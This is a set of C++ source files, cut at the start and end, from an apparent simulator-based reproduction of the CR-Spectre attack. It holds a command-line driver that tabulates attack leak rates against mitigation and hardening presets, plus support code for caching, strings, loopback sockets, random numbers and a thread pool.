  if (has("full")) {
    for (const char* attack : {"spec-probe-rop", "spectre-1.1"}) {
      const auto& c = result.cell(attack, "full");
      if (c.leaks == 0) {
        fail(std::string(attack) + " under 'full' never leaked — the "
             "speculative bypass is broken");
      }
    }
  }
  if (has("none") && result.preset_summary("none").total_events() != 0) {
    fail("'none' reported hardening activity");
  }
  if (failures == 0) {
    std::fprintf(stderr,
                 "[crs_matrix] harden check passed: hardening kills the "
                 "classic overflow, the speculative attacks pierce it\n");
  }
  return failures == 0 ? 0 : 1;
}

void print_harden_table(const core::HardenMatrixResult& result) {
  std::printf("%-14s", "attack\\harden");
  for (const auto& p : result.presets) std::printf(" %14s", p.c_str());
  std::printf("\n");
  for (const auto& attack : result.attacks) {
    std::printf("%-14s", attack.c_str());
    for (const auto& preset : result.presets) {
      const auto& c = result.cell(attack, preset);
      char buf[32];
      std::snprintf(buf, sizeof buf, "%.2f/%d", c.leak_rate, c.launches);
      std::printf(" %14s", buf);
    }
    std::printf("\n");
  }
  std::printf("%-14s", "ipc-ovh-%");
  for (std::size_t i = 0; i < result.presets.size(); ++i) {
    std::printf(" %14.2f", result.ipc_overhead_pct[i]);
  }
  std::printf("\n(cells: leak-rate / launches)\n");
}

/// The --harden-sweep mode: same CLI surface, hardening matrix underneath.
int run_harden_sweep(const core::HardenMatrixConfig& config, bool check,
                     const std::string& csv_path,
                     const std::string& metrics_path,
                     const std::string& bench_json_path) {
  const auto t0 = std::chrono::steady_clock::now();
  const core::HardenMatrixResult result = core::run_harden_matrix(config);
  const double wall_ms = std::chrono::duration<double, std::milli>(
                             std::chrono::steady_clock::now() - t0)
                             .count();
  print_harden_table(result);
  if (!csv_path.empty()) {
    core::write_text_file(csv_path, core::harden_matrix_csv(result));
    std::fprintf(stderr, "[crs_matrix] wrote %s\n", csv_path.c_str());
  }
  if (!metrics_path.empty()) {
    core::write_text_file(metrics_path,
                          core::harden_matrix_metrics_csv(result));
    std::fprintf(stderr, "[crs_matrix] wrote %s\n", metrics_path.c_str());
  }
  if (!bench_json_path.empty()) {
    if (std::FILE* f = std::fopen(bench_json_path.c_str(), "a")) {
      std::string presets;
      for (const auto& p : result.presets) {
        if (!presets.empty()) presets += ',';
        presets += p;
      }
      std::fprintf(f,
                   "{\"name\":\"crs_matrix:harden-%s\",\"wall_ms\":%.3f,"
                   "\"items_per_s\":%.3f,\"config\":%s}\n",
                   config.quick ? "quick" : "full", wall_ms,
                   static_cast<double>(result.cells.size()) / (wall_ms / 1e3),
                   core::bench_config_json(presets).c_str());
      std::fclose(f);
    }
  }
  return check ? check_harden_story(result) : 0;
}

void print_table(const core::DefenseMatrixResult& result) {
  std::printf("%-14s", "attack\\preset");
  for (const auto& p : result.presets) std::printf(" %14s", p.c_str());
  std::printf("\n");
  for (const auto& attack : result.attacks) {
    std::printf("%-14s", attack.c_str());
    for (const auto& preset : result.presets) {
      const auto& c = result.cell(attack, preset);
      char buf[32];
      std::snprintf(buf, sizeof buf, "%.2f/%.2f", c.leak_rate,
                    c.hid_detection);
      std::printf(" %14s", buf);
    }
    std::printf("\n");
  }
  std::printf("%-14s", "ipc-ovh-%");
  for (std::size_t i = 0; i < result.presets.size(); ++i) {
    std::printf(" %14.2f", result.ipc_overhead_pct[i]);
  }
  std::printf("\n(cells: leak-rate / HID-detection)\n");
}

}  // namespace

int main(int argc, char** argv) {
  try {
    core::DefenseMatrixConfig config;
    bool check = false;
    bool harden_sweep = false;
    int mined = 0;
    std::uint64_t mined_seed = 2026;
    std::string csv_path, json_path, metrics_path, bench_json_path;

    std::string value;
    FlagCursor args(argc, argv);
    while (args.more()) {
      std::uint64_t u = 0;
      if (args.take("--quick")) {
        config.quick = true;
      } else if (args.take("--check")) {
        check = true;
      } else if (args.take("--harden-sweep")) {
        harden_sweep = true;
      } else if (args.take_value("--presets", value)) {
        config.presets = split(value, ',');
      } else if (args.take_int("--attempts", config.attempts)) {
      } else if (args.take_u64("--seed", config.seed)) {
      } else if (args.take_value("--csv", csv_path)) {
      } else if (args.take_value("--json", json_path)) {
      } else if (args.take_value("--metrics", metrics_path)) {
      } else if (args.take_value("--bench-json", bench_json_path)) {
      } else if (args.take_int("--mined", mined)) {
      } else if (args.take_u64("--mined-seed", mined_seed)) {
      } else if (args.take_u64("--threads", u)) {
        set_thread_override(static_cast<unsigned>(u));
      } else if (args.take_value("--snapshot", value)) {
        apply_snapshot_flag(value);
      } else if (args.take_value("--cow", value)) {
        apply_cow_flag(value);
      } else if (args.take_value("--exec", value)) {
        apply_exec_flag(value);
      } else if (args.take("--help")) {
        return usage(argv[0]);
      } else {
        args.unknown();
      }
    }

    if (harden_sweep) {
      if (mined > 0) {
        throw Error("--mined applies to the mitigation matrix, not "
                    "--harden-sweep");
      }
      if (!json_path.empty()) {
        throw Error("--json is not supported with --harden-sweep (use "
                    "--csv / --metrics)");
      }
      core::HardenMatrixConfig hcfg;
      hcfg.attempts = config.attempts;
      hcfg.seed = config.seed;
      hcfg.host_scale = config.host_scale;
      hcfg.secret = config.secret;
      hcfg.presets = config.presets;
      hcfg.overhead_repeats = config.overhead_repeats;
      hcfg.quick = config.quick;
      return run_harden_sweep(hcfg, check, csv_path, metrics_path,
                              bench_json_path);
    }

    const auto t0 = std::chrono::steady_clock::now();
    const std::vector<core::AttackSpec> extra =
        mined > 0 ? mined_attacks(config, mined, mined_seed)
                  : std::vector<core::AttackSpec>{};
    const core::DefenseMatrixResult result =
        core::run_defense_matrix(config, extra);
    const double wall_ms = std::chrono::duration<double, std::milli>(
                               std::chrono::steady_clock::now() - t0)
                               .count();

    print_table(result);
    if (!csv_path.empty()) {
      core::write_text_file(csv_path, core::matrix_csv(result));
      std::fprintf(stderr, "[crs_matrix] wrote %s\n", csv_path.c_str());
    }
    if (!json_path.empty()) {
      core::write_text_file(json_path, core::matrix_json(result));
      std::fprintf(stderr, "[crs_matrix] wrote %s\n", json_path.c_str());
    }
    if (!metrics_path.empty()) {
      core::write_text_file(metrics_path, core::matrix_metrics_csv(result));
      std::fprintf(stderr, "[crs_matrix] wrote %s\n", metrics_path.c_str());
    }
    if (!bench_json_path.empty()) {
      if (std::FILE* f = std::fopen(bench_json_path.c_str(), "a")) {
        // The sweep spans presets, so the config's mitigation field records
        // the sweep set rather than a single armed preset.
        std::string presets;
        for (const auto& p : result.presets) {
          if (!presets.empty()) presets += ',';
          presets += p;
        }
        std::fprintf(f,
                     "{\"name\":\"crs_matrix:%s\",\"wall_ms\":%.3f,"
                     "\"items_per_s\":%.3f,\"config\":%s}\n",
                     config.quick ? "quick" : "full", wall_ms,
                     static_cast<double>(result.cells.size()) /
                         (wall_ms / 1e3),
                     core::bench_config_json(presets).c_str());
        std::fclose(f);
      }
    }
    return check ? check_story(result) : 0;
  } catch (const Error& e) {
    std::fprintf(stderr, "crs_matrix: %s\n", e.what());
    return 1;
  }
}
