// Content-addressed memoization for expensive deterministic builds.
//
// Campaign-scale drivers run the same scenario thousands of times with only
// the seed (and occasionally the perturb parameters) varying, yet every
// attempt used to rebuild the host workload, re-run ROP recon and reassemble
// the attack binary from scratch. Those builds are pure functions of their
// configs, so a process-wide cache keyed on a config hash computes each
// artifact once and hands out shared immutable copies — the build-side half
// of the snapshot/restore fast-reset engine (see sim/snapshot.hpp and
// DESIGN.md §10).
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <memory>
#include <mutex>
#include <string_view>
#include <unordered_map>

namespace crs {

/// Process-wide fast-reset switch. When off, MemoCache::get_or_build always
/// rebuilds (nothing is cached) and the scenario/campaign drivers fall back
/// to the legacy construct-everything-per-attempt path — the `--snapshot=off`
/// debugging aid. Defaults to on unless the CRS_SNAPSHOT environment
/// variable is "off" or "0".
bool fast_reset_enabled();
void set_fast_reset_enabled(bool enabled);

/// Process-wide copy-on-write fork switch. When on (the default), machine
/// replication forks from a refcounted frozen baseline image — construction
/// cost and resident footprint scale with the pages a run actually dirties
/// instead of the full address space. When off, every machine is built
/// privately (`--cow=off`, the debugging aid). Like the snapshot switch this
/// is a cost switch, not a results switch: outputs are byte-identical either
/// way. Defaults to on unless the CRS_COW environment variable is "off"/"0".
bool cow_enabled();
void set_cow_enabled(bool enabled);

/// Incremental FNV-1a hasher for building content-addressed cache keys out
/// of config structs. Every field feed is length-prefixed by its type width
/// via the fixed-width overloads, so adjacent fields cannot alias.
class HashBuilder {
 public:
  HashBuilder& bytes(const void* data, std::size_t len) {
    const auto* p = static_cast<const unsigned char*>(data);
    for (std::size_t i = 0; i < len; ++i) {
      hash_ ^= p[i];
      hash_ *= 1099511628211ull;
    }
    return *this;
  }
  HashBuilder& u64(std::uint64_t v) { return bytes(&v, sizeof(v)); }
  HashBuilder& u32(std::uint32_t v) { return bytes(&v, sizeof(v)); }
  HashBuilder& i64(std::int64_t v) { return bytes(&v, sizeof(v)); }
  HashBuilder& b(bool v) { return u32(v ? 1u : 0u); }
  HashBuilder& f64(double v) { return bytes(&v, sizeof(v)); }
  HashBuilder& str(std::string_view s) {
    u64(s.size());
    return bytes(s.data(), s.size());
  }
  std::uint64_t digest() const { return hash_; }

 private:
  std::uint64_t hash_ = 14695981039346656037ull;  // FNV offset basis
};

/// Thread-safe build cache: key → shared immutable artifact. The builder
/// runs outside the lock (two threads racing on a cold key may both build;
/// the first insert wins and both get the same deterministic value), so a
/// slow build never serialises unrelated lookups.
template <typename T>
class MemoCache {
 public:
  std::shared_ptr<const T> get_or_build(std::uint64_t key,
                                        const std::function<T()>& build) {
    if (!fast_reset_enabled()) {
      misses_.fetch_add(1, std::memory_order_relaxed);
      return std::make_shared<const T>(build());
    }
    {
      std::lock_guard<std::mutex> lock(mutex_);
      const auto it = map_.find(key);
      if (it != map_.end()) {
        hits_.fetch_add(1, std::memory_order_relaxed);
        return it->second;
      }
    }
    auto built = std::make_shared<const T>(build());
    misses_.fetch_add(1, std::memory_order_relaxed);
    std::lock_guard<std::mutex> lock(mutex_);
    const auto [it, inserted] = map_.try_emplace(key, std::move(built));
    return it->second;
  }

  std::uint64_t hits() const { return hits_.load(std::memory_order_relaxed); }
  std::uint64_t misses() const {
    return misses_.load(std::memory_order_relaxed);
  }
  std::size_t size() const {
    std::lock_guard<std::mutex> lock(mutex_);
    return map_.size();
  }
  void clear() {
    std::lock_guard<std::mutex> lock(mutex_);
    map_.clear();
  }

 private:
  mutable std::mutex mutex_;
  std::unordered_map<std::uint64_t, std::shared_ptr<const T>> map_;
  std::atomic<std::uint64_t> hits_{0};
  std::atomic<std::uint64_t> misses_{0};
};

}  // namespace crs
