// String helpers shared by the assembler, disassembler and bench output.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

namespace crs {

/// Splits on `sep`, keeping empty fields.
std::vector<std::string> split(std::string_view s, char sep);

/// Splits on runs of whitespace, dropping empty fields.
std::vector<std::string> split_ws(std::string_view s);

std::string_view trim(std::string_view s);

bool starts_with(std::string_view s, std::string_view prefix);

std::string to_lower(std::string_view s);

/// Formats `v` as 0x-prefixed lowercase hex.
std::string hex(std::uint64_t v);

/// Fixed-point decimal with `digits` fractional digits (bench tables).
std::string fixed(double v, int digits);

/// Left-pads `s` with spaces to `width`.
std::string pad_left(std::string_view s, std::size_t width);

/// Right-pads `s` with spaces to `width`.
std::string pad_right(std::string_view s, std::size_t width);

/// Parses a signed 64-bit integer supporting decimal, 0x-hex, and a leading
/// '-'. Returns false on any trailing garbage.
bool parse_int(std::string_view s, std::int64_t& out);

}  // namespace crs
