#include "support/socket.hpp"

#include <arpa/inet.h>
#include <cerrno>
#include <cstring>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "support/error.hpp"

namespace crs {

namespace {

[[noreturn]] void raise_errno(const std::string& what) {
  throw Error(what + ": " + std::strerror(errno));
}

}  // namespace

Socket& Socket::operator=(Socket&& other) noexcept {
  if (this != &other) {
    close();
    fd_ = other.fd_;
    other.fd_ = -1;
  }
  return *this;
}

void Socket::send_all(const void* data, std::size_t len) {
  const auto* p = static_cast<const std::uint8_t*>(data);
  while (len > 0) {
    const ssize_t n = ::send(fd_, p, len, MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      raise_errno("send");
    }
    p += n;
    len -= static_cast<std::size_t>(n);
  }
}

std::size_t Socket::recv_some(void* data, std::size_t len) {
  for (;;) {
    const ssize_t n = ::recv(fd_, data, len, 0);
    if (n < 0) {
      if (errno == EINTR) continue;
      raise_errno("recv");
    }
    return static_cast<std::size_t>(n);
  }
}

bool Socket::recv_exact(void* data, std::size_t len) {
  auto* p = static_cast<std::uint8_t*>(data);
  std::size_t got = 0;
  while (got < len) {
    const std::size_t n = recv_some(p + got, len - got);
    if (n == 0) {
      if (got == 0) return false;
      throw Error("connection closed mid-frame (" + std::to_string(got) +
                  " of " + std::to_string(len) + " bytes)");
    }
    got += n;
  }
  return true;
}

void Socket::shutdown_both() {
  if (fd_ >= 0) ::shutdown(fd_, SHUT_RDWR);
}

void Socket::close() {
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
}

Socket listen_unix(const std::string& path, int backlog) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (path.size() >= sizeof(addr.sun_path)) {
    throw Error("unix socket path too long: '" + path + "'");
  }
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);

  Socket sock(::socket(AF_UNIX, SOCK_STREAM, 0));
  if (!sock.valid()) raise_errno("socket(AF_UNIX)");
  ::unlink(path.c_str());  // stale socket file from a crashed server
  if (::bind(sock.fd(), reinterpret_cast<const sockaddr*>(&addr),
             sizeof(addr)) != 0) {
    raise_errno("bind('" + path + "')");
  }
  if (::listen(sock.fd(), backlog) != 0) raise_errno("listen('" + path + "')");
  return sock;
}

Socket listen_tcp_loopback(std::uint16_t port, std::uint16_t& bound_port,
                           int backlog) {
  Socket sock(::socket(AF_INET, SOCK_STREAM, 0));
  if (!sock.valid()) raise_errno("socket(AF_INET)");
  const int one = 1;
  ::setsockopt(sock.fd(), SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::bind(sock.fd(), reinterpret_cast<const sockaddr*>(&addr),
             sizeof(addr)) != 0) {
    raise_errno("bind(127.0.0.1:" + std::to_string(port) + ")");
  }
  if (::listen(sock.fd(), backlog) != 0) raise_errno("listen(tcp)");

  sockaddr_in got{};
  socklen_t got_len = sizeof(got);
  if (::getsockname(sock.fd(), reinterpret_cast<sockaddr*>(&got), &got_len) !=
      0) {
    raise_errno("getsockname");
  }
  bound_port = ntohs(got.sin_port);
  return sock;
}

std::optional<Socket> accept_with_timeout(Socket& listener, int timeout_ms) {
  pollfd pfd{listener.fd(), POLLIN, 0};
  for (;;) {
    const int rc = ::poll(&pfd, 1, timeout_ms);
    if (rc < 0) {
      if (errno == EINTR) continue;
      raise_errno("poll");
    }
    if (rc == 0) return std::nullopt;
    const int fd = ::accept(listener.fd(), nullptr, nullptr);
    if (fd < 0) {
      if (errno == EINTR || errno == ECONNABORTED) continue;
      raise_errno("accept");
    }
    // Harmless on AF_UNIX; on TCP it stops Nagle + delayed-ACK from adding
    // ~40ms to every small response frame.
    const int one = 1;
    ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    return Socket(fd);
  }
}

Socket connect_unix(const std::string& path) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (path.size() >= sizeof(addr.sun_path)) {
    throw Error("unix socket path too long: '" + path + "'");
  }
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);

  Socket sock(::socket(AF_UNIX, SOCK_STREAM, 0));
  if (!sock.valid()) raise_errno("socket(AF_UNIX)");
  if (::connect(sock.fd(), reinterpret_cast<const sockaddr*>(&addr),
                sizeof(addr)) != 0) {
    raise_errno("connect('" + path + "')");
  }
  return sock;
}

Socket connect_tcp_loopback(std::uint16_t port) {
  Socket sock(::socket(AF_INET, SOCK_STREAM, 0));
  if (!sock.valid()) raise_errno("socket(AF_INET)");
  const int one = 1;
  ::setsockopt(sock.fd(), IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::connect(sock.fd(), reinterpret_cast<const sockaddr*>(&addr),
                sizeof(addr)) != 0) {
    raise_errno("connect(127.0.0.1:" + std::to_string(port) + ")");
  }
  return sock;
}

}  // namespace crs
