// Error handling helpers shared across the CR-Spectre reproduction.
//
// The library throws `crs::Error` (a std::runtime_error) for all
// precondition and invariant violations so callers can distinguish library
// failures from standard-library exceptions.
#pragma once

#include <stdexcept>
#include <string>

namespace crs {

/// Exception type thrown by all crs libraries.
class Error : public std::runtime_error {
 public:
  explicit Error(const std::string& what) : std::runtime_error(what) {}
};

namespace detail {
[[noreturn]] inline void raise(const char* file, int line, const char* expr,
                               const std::string& msg) {
  std::string out = std::string(file) + ":" + std::to_string(line) +
                    ": check failed: " + expr;
  if (!msg.empty()) out += " — " + msg;
  throw Error(out);
}
}  // namespace detail

}  // namespace crs

/// Throws crs::Error when `cond` is false. Always enabled (not tied to
/// NDEBUG) because the simulator relies on these checks to model faults.
#define CRS_ENSURE(cond, msg)                                   \
  do {                                                          \
    if (!(cond)) ::crs::detail::raise(__FILE__, __LINE__, #cond, (msg)); \
  } while (false)
