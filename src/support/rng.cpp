#include "support/rng.hpp"

#include <cmath>

#include "support/error.hpp"

namespace crs {

namespace {

std::uint64_t splitmix64(std::uint64_t& x) {
  x += 0x9E3779B97F4A7C15ull;
  std::uint64_t z = x;
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
  return z ^ (z >> 31);
}

std::uint64_t rotl(std::uint64_t x, int k) {
  return (x << k) | (x >> (64 - k));
}

}  // namespace

Rng::Rng(std::uint64_t seed) {
  std::uint64_t sm = seed;
  for (auto& s : s_) s = splitmix64(sm);
  // xoshiro must not start in the all-zero state.
  if ((s_[0] | s_[1] | s_[2] | s_[3]) == 0) s_[0] = 1;
}

std::uint64_t Rng::next_u64() {
  const std::uint64_t result = rotl(s_[1] * 5, 7) * 9;
  const std::uint64_t t = s_[1] << 17;
  s_[2] ^= s_[0];
  s_[3] ^= s_[1];
  s_[1] ^= s_[2];
  s_[0] ^= s_[3];
  s_[2] ^= t;
  s_[3] = rotl(s_[3], 45);
  return result;
}

std::uint64_t Rng::next_below(std::uint64_t bound) {
  CRS_ENSURE(bound > 0, "next_below requires bound > 0");
  // Rejection sampling to avoid modulo bias.
  const std::uint64_t threshold = -bound % bound;
  for (;;) {
    const std::uint64_t r = next_u64();
    if (r >= threshold) return r % bound;
  }
}

std::int64_t Rng::next_in(std::int64_t lo, std::int64_t hi) {
  CRS_ENSURE(lo <= hi, "next_in requires lo <= hi");
  const std::uint64_t span =
      static_cast<std::uint64_t>(hi) - static_cast<std::uint64_t>(lo) + 1;
  if (span == 0) return static_cast<std::int64_t>(next_u64());
  return lo + static_cast<std::int64_t>(next_below(span));
}

double Rng::next_double() {
  return static_cast<double>(next_u64() >> 11) * 0x1.0p-53;
}

double Rng::next_double_in(double lo, double hi) {
  return lo + (hi - lo) * next_double();
}

double Rng::next_gaussian() {
  if (have_cached_gaussian_) {
    have_cached_gaussian_ = false;
    return cached_gaussian_;
  }
  double u1 = 0.0;
  do {
    u1 = next_double();
  } while (u1 <= 0.0);
  const double u2 = next_double();
  const double r = std::sqrt(-2.0 * std::log(u1));
  const double theta = 2.0 * 3.14159265358979323846 * u2;
  cached_gaussian_ = r * std::sin(theta);
  have_cached_gaussian_ = true;
  return r * std::cos(theta);
}

double Rng::next_gaussian(double mean, double stddev) {
  return mean + stddev * next_gaussian();
}

bool Rng::next_bernoulli(double p) { return next_double() < p; }

Rng Rng::split() { return Rng(next_u64() ^ 0xD1B54A32D192ED03ull); }

}  // namespace crs
