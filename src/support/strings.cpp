#include "support/strings.hpp"

#include <cctype>
#include <charconv>
#include <cmath>
#include <cstdio>

namespace crs {

std::vector<std::string> split(std::string_view s, char sep) {
  std::vector<std::string> out;
  std::size_t start = 0;
  for (std::size_t i = 0; i <= s.size(); ++i) {
    if (i == s.size() || s[i] == sep) {
      out.emplace_back(s.substr(start, i - start));
      start = i + 1;
    }
  }
  return out;
}

std::vector<std::string> split_ws(std::string_view s) {
  std::vector<std::string> out;
  std::size_t i = 0;
  while (i < s.size()) {
    while (i < s.size() && std::isspace(static_cast<unsigned char>(s[i]))) ++i;
    std::size_t start = i;
    while (i < s.size() && !std::isspace(static_cast<unsigned char>(s[i]))) ++i;
    if (i > start) out.emplace_back(s.substr(start, i - start));
  }
  return out;
}

std::string_view trim(std::string_view s) {
  while (!s.empty() && std::isspace(static_cast<unsigned char>(s.front())))
    s.remove_prefix(1);
  while (!s.empty() && std::isspace(static_cast<unsigned char>(s.back())))
    s.remove_suffix(1);
  return s;
}

bool starts_with(std::string_view s, std::string_view prefix) {
  return s.size() >= prefix.size() && s.substr(0, prefix.size()) == prefix;
}

std::string to_lower(std::string_view s) {
  std::string out(s);
  for (char& c : out) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return out;
}

std::string hex(std::uint64_t v) {
  char buf[32];
  std::snprintf(buf, sizeof(buf), "0x%llx", static_cast<unsigned long long>(v));
  return buf;
}

std::string fixed(double v, int digits) {
  char buf[64];
  std::snprintf(buf, sizeof(buf), "%.*f", digits, v);
  return buf;
}

std::string pad_left(std::string_view s, std::size_t width) {
  std::string out;
  if (s.size() < width) out.assign(width - s.size(), ' ');
  out += s;
  return out;
}

std::string pad_right(std::string_view s, std::size_t width) {
  std::string out(s);
  if (out.size() < width) out.append(width - out.size(), ' ');
  return out;
}

bool parse_int(std::string_view s, std::int64_t& out) {
  s = trim(s);
  if (s.empty()) return false;
  bool negative = false;
  if (s.front() == '-') {
    negative = true;
    s.remove_prefix(1);
    if (s.empty()) return false;
  }
  int base = 10;
  if (starts_with(s, "0x") || starts_with(s, "0X")) {
    base = 16;
    s.remove_prefix(2);
    if (s.empty()) return false;
  }
  std::uint64_t magnitude = 0;
  const auto [ptr, ec] =
      std::from_chars(s.data(), s.data() + s.size(), magnitude, base);
  if (ec != std::errc() || ptr != s.data() + s.size()) return false;
  if (negative) {
    out = -static_cast<std::int64_t>(magnitude);
  } else {
    out = static_cast<std::int64_t>(magnitude);
  }
  return true;
}

}  // namespace crs
