#include "support/parallel.hpp"

#include <atomic>
#include <cstdlib>

#include "obs/obs.hpp"

namespace crs {

namespace {

std::atomic<unsigned> g_thread_override{0};

}  // namespace

void set_thread_override(unsigned threads) {
  g_thread_override.store(threads, std::memory_order_relaxed);
}

unsigned resolve_thread_count(unsigned requested) {
  if (requested > 0) return requested;
  const unsigned overridden = g_thread_override.load(std::memory_order_relaxed);
  if (overridden > 0) return overridden;
  if (const char* env = std::getenv("CRS_THREADS")) {
    const long parsed = std::strtol(env, nullptr, 10);
    if (parsed > 0) return static_cast<unsigned>(parsed);
  }
  const unsigned hw = std::thread::hardware_concurrency();
  return hw > 0 ? hw : 1;
}

std::uint64_t derive_seed(std::uint64_t base_seed, std::uint64_t index) {
  // SplitMix64 finalisation over (base, index): adjacent indices land in
  // statistically independent streams, and the result is a pure function of
  // the pair — no dependence on execution order.
  std::uint64_t z = base_seed + 0x9E3779B97F4A7C15ull * (index + 1);
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
  return z ^ (z >> 31);
}

ThreadPool::ThreadPool(unsigned threads) {
  const unsigned count = resolve_thread_count(threads);
  workers_.reserve(count - 1);
  for (unsigned i = 1; i < count; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

ThreadPool::~ThreadPool() {
  {
    std::lock_guard<std::mutex> lock(mutex_);
    stop_ = true;
  }
  wake_.notify_all();
  for (auto& worker : workers_) worker.join();
}

void ThreadPool::run_items() {
  std::unique_lock<std::mutex> lock(mutex_);
  while (fn_ != nullptr && next_ < total_) {
    const std::size_t index = next_++;
    const auto* fn = fn_;
    const std::uint32_t lane_base = lane_base_;
    lock.unlock();
    std::exception_ptr err;
    try {
      // Tag everything the item emits with the region's lane for its index
      // so traces are independent of which OS thread picked it up.
      obs::LaneScope lane(lane_base + static_cast<std::uint32_t>(index));
      (*fn)(index);
    } catch (...) {
      err = std::current_exception();
    }
    lock.lock();
    if (err && !error_) error_ = err;
    if (--pending_ == 0) {
      fn_ = nullptr;
      done_.notify_all();
    }
  }
}

void ThreadPool::worker_loop() {
  std::unique_lock<std::mutex> lock(mutex_);
  while (!stop_) {
    wake_.wait(lock,
               [this] { return stop_ || (fn_ != nullptr && next_ < total_); });
    if (stop_) return;
    lock.unlock();
    run_items();
    lock.lock();
  }
}

void ThreadPool::for_each_index(std::size_t n,
                                const std::function<void(std::size_t)>& fn) {
  if (n == 0) return;
  // Every region claims a fresh lane block — in program order, so the lane
  // of work item i is the same for every thread count.
  const std::uint32_t lane_base =
      obs::allocate_lane_block(static_cast<std::uint32_t>(n));
  if (workers_.empty()) {
    // Serial fallback: no pool machinery, exceptions propagate directly.
    // Lanes are still scoped so serial and pooled runs emit identically.
    for (std::size_t i = 0; i < n; ++i) {
      obs::LaneScope lane(lane_base + static_cast<std::uint32_t>(i));
      fn(i);
    }
    return;
  }
  {
    std::lock_guard<std::mutex> lock(mutex_);
    fn_ = &fn;
    total_ = n;
    next_ = 0;
    pending_ = n;
    lane_base_ = lane_base;
    error_ = nullptr;
  }
  wake_.notify_all();
  run_items();  // the calling thread works too
  std::unique_lock<std::mutex> lock(mutex_);
  done_.wait(lock, [this] { return pending_ == 0; });
  if (error_) {
    std::exception_ptr err = error_;
    error_ = nullptr;
    std::rethrow_exception(err);
  }
}

}  // namespace crs
