// Small statistics helpers used by the profiler, HID evaluation and the
// benchmark harnesses.
#pragma once

#include <cstddef>
#include <cstdint>
#include <span>
#include <vector>

namespace crs {

/// Welford online accumulator for mean/variance without storing samples.
class OnlineStats {
 public:
  void add(double x);
  void merge(const OnlineStats& other);

  std::size_t count() const { return n_; }
  double mean() const { return n_ > 0 ? mean_ : 0.0; }
  /// Sample variance (n-1 denominator); 0 for fewer than two samples.
  double variance() const;
  double stddev() const;
  double min() const { return min_; }
  double max() const { return max_; }

 private:
  std::size_t n_ = 0;
  double mean_ = 0.0;
  double m2_ = 0.0;
  double min_ = 0.0;
  double max_ = 0.0;
};

double mean(std::span<const double> xs);
double variance(std::span<const double> xs);
double stddev(std::span<const double> xs);
double median(std::vector<double> xs);  // by value: needs to sort
/// Linear-interpolated percentile, p in [0, 100].
double percentile(std::vector<double> xs, double p);

}  // namespace crs
