// Minimal POSIX socket helpers for the campaign service (src/serve).
//
// Deliberately tiny: RAII over a file descriptor, loopback-TCP and
// Unix-domain listeners/connectors, and exact-length send/receive. All
// failures surface as crs::Error; EOF is an in-band return value because a
// peer hanging up is normal protocol flow, not an error. Sends use
// MSG_NOSIGNAL so a dead peer produces an Error instead of SIGPIPE killing
// the server.
#pragma once

#include <cstddef>
#include <cstdint>
#include <optional>
#include <string>

namespace crs {

/// Move-only owner of a socket file descriptor.
class Socket {
 public:
  Socket() = default;
  explicit Socket(int fd) : fd_(fd) {}
  ~Socket() { close(); }
  Socket(Socket&& other) noexcept : fd_(other.fd_) { other.fd_ = -1; }
  Socket& operator=(Socket&& other) noexcept;
  Socket(const Socket&) = delete;
  Socket& operator=(const Socket&) = delete;

  bool valid() const { return fd_ >= 0; }
  int fd() const { return fd_; }

  /// Sends the whole buffer (retrying short writes / EINTR). Throws on any
  /// failure, including the peer having hung up.
  void send_all(const void* data, std::size_t len);

  /// Receives up to `len` bytes. Returns 0 only on orderly EOF.
  std::size_t recv_some(void* data, std::size_t len);

  /// Receives exactly `len` bytes; false when EOF arrives before any byte,
  /// Error when the stream ends mid-buffer.
  bool recv_exact(void* data, std::size_t len);

  /// shutdown(SHUT_RDWR): wakes a peer (or our own reader) blocked in recv.
  void shutdown_both();

  void close();

 private:
  int fd_ = -1;
};

/// Binds + listens on a Unix-domain socket, replacing any stale file at
/// `path` (paths are limited to ~107 bytes by the ABI; longer throws).
Socket listen_unix(const std::string& path, int backlog = 64);

/// Binds + listens on 127.0.0.1:`port` (0 = ephemeral). The actual bound
/// port is stored in `bound_port`.
Socket listen_tcp_loopback(std::uint16_t port, std::uint16_t& bound_port,
                           int backlog = 64);

/// Waits up to `timeout_ms` for a connection; nullopt on timeout (so accept
/// loops can poll a stop flag without blocking forever).
std::optional<Socket> accept_with_timeout(Socket& listener, int timeout_ms);

Socket connect_unix(const std::string& path);
Socket connect_tcp_loopback(std::uint16_t port);

}  // namespace crs
