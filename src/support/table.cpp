#include "support/table.hpp"

#include <algorithm>

#include "support/strings.hpp"

namespace crs {

Table::Table(std::vector<std::string> header) : header_(std::move(header)) {}

void Table::add_row(std::vector<std::string> row) {
  rows_.push_back(std::move(row));
}

std::string Table::render() const {
  std::vector<std::size_t> widths(header_.size());
  for (std::size_t c = 0; c < header_.size(); ++c) widths[c] = header_[c].size();
  for (const auto& row : rows_) {
    for (std::size_t c = 0; c < row.size() && c < widths.size(); ++c) {
      widths[c] = std::max(widths[c], row[c].size());
    }
  }

  std::string out;
  auto emit_row = [&](const std::vector<std::string>& row) {
    for (std::size_t c = 0; c < header_.size(); ++c) {
      const std::string cell = c < row.size() ? row[c] : std::string();
      out += pad_right(cell, widths[c]);
      if (c + 1 < header_.size()) out += " | ";
